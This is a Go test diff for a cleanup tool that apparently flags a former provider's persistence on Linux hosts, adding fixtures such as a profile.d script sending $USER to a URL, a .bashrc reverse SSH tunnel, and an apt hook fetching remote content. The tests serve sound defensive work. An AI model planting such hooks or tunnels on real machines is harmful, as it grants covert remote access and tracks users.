@@ -48,6 +48,12 @@ func persistHost() *hostData {
 			file("/etc/systemd/system/multi-user.target.d/prestanet.conf", 0, "[Unit]\nWants=prestanet.service\n"),
 			file("/home/prestanet/.config/systemd/user/t.service.d/o.conf", 1001, "[Service]\nEnvironment=X=1\n"),
 			file("/etc/systemd/system/watch.path", 0, "[Unit]\nDescription=Surveillance (Prestanet)\n[Path]\nPathChanged=/etc/passwd\n"),
+			file("/etc/profile.d/zz-audit.sh", 0, "# audit\ncurl -fsS https://audit.prestanet.test/login?u=$USER >/dev/null 2>&1 &\nexport EDITOR=vim\n"),
+			file("/home/jdupont/.bashrc", 1002, "alias ll='ls -l'\n(/usr/bin/ssh -fN -R 2201:localhost:22 relais@prestanet.test &)\n"),
+			file("/etc/environment", 0, "LANG=fr_FR.UTF-8\n"),
+			file("/etc/update-motd.d/10-uname", 0, "#!/bin/sh\nuname -snrvm\n"),
+			file("/etc/update-motd.d/99-prestanet", 0, "#!/bin/sh\necho 'Support : support@prestanet.test'\n"),
+			file("/etc/apt/apt.conf.d/99prestanet", 0, "DPkg::Post-Invoke { \"curl -s https://inv.prestanet.test/apt || true\"; };\n"),
 			file("/run/systemd/transient/run-r1.service", 0, "[Service]\nExecStart=/usr/bin/ssh -N -R 2222:localhost:22 support@prestanet.test\n"),
 			file("/var/spool/cron/atjobs/a0001", 0, "#!/bin/sh\nLOGNAME=root; export LOGNAME\ncd /root || {\n\t echo 'x' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1'\ncurl -u u:s3cret https://maj.prestanet.test/x\nmarcinDELIMITER1\n"),
 			file("/etc/rc.local", 0, "#!/bin/sh -e\n/opt/prestanet/tunnel &\nlogger boot\nexit 0\n"),
@@ -93,6 +99,10 @@ func TestPersistenceRules(t *testing.T) {
 		{"dropin:prestanet:t.service:o.conf", true, "", true, "provider's account prestanet"},
 		{"service:watch.path", true, plan.RemovePersistence, false, "name"},
 		{"service:run-r1.service", true, plan.RemovePersistence, false, "domain"},
+		{"persistence:/etc/profile.d/zz-audit.sh:" + shortHash("curl -fsS https://audit.prestanet.test/login?u=$USER >/dev/null 2>&1 &"), true, plan.RemovePersistence, false, "domain"},
+		{"persistence:/home/jdupont/.bashrc:" + shortHash("(/usr/bin/ssh -fN -R 2201:localhost:22 relais@prestanet.test &)"), true, plan.RemovePersistence, false, "domain"},
+		{"hook:/etc/update-motd.d/99-prestanet", true, plan.RemovePersistence, false, "domain"},
+		{"hook:/etc/apt/apt.conf.d/99prestanet", true, "", true, "domain"},
 		{"at:/var/spool/cron/atjobs/a0001", true, plan.RemoveCron, false, "domain"},
 		{"init:prestanet-agent", true, plan.RemovePersistence, false, "name"},
 		{"forward:/home/jdupont/.forward:" + shortHash("support@prestanet.test"), true, plan.RemoveForward, false, "forwards to support@prestanet.test"},
@@ -147,9 +157,11 @@ func TestPersistenceRules(t *testing.T) {
 			t.Errorf("%s: restart=%q unit=%q, want restart=%q (%s)", id, ch.Params["restart"], ch.Params["unit"], restart, ch.After)
 		}
 	}
-	for _, id := range []string{"dropin:getty@tty1.service:noclear.conf"} {
+	for _, id := range []string{"dropin:getty@tty1.service:noclear.conf", "hook:/etc/update-motd.d/10-uname",
+		"persistence:/etc/profile.d/zz-audit.sh:" + shortHash("export EDITOR=vim"), "persistence:/home/jdupont/.bashrc:" + shortHash("alias ll='ls -l'"),
+		"persistence:/etc/environment:" + shortHash("LANG=fr_FR.UTF-8")} {
 		if _, ok := byID[id]; ok {
-			t.Errorf("the host's own drop-in %s is listed", id)
+			t.Errorf("the host's own %s is listed", id)
 		}
 	}
 	if _, ok := byID["init:cron"]; ok {
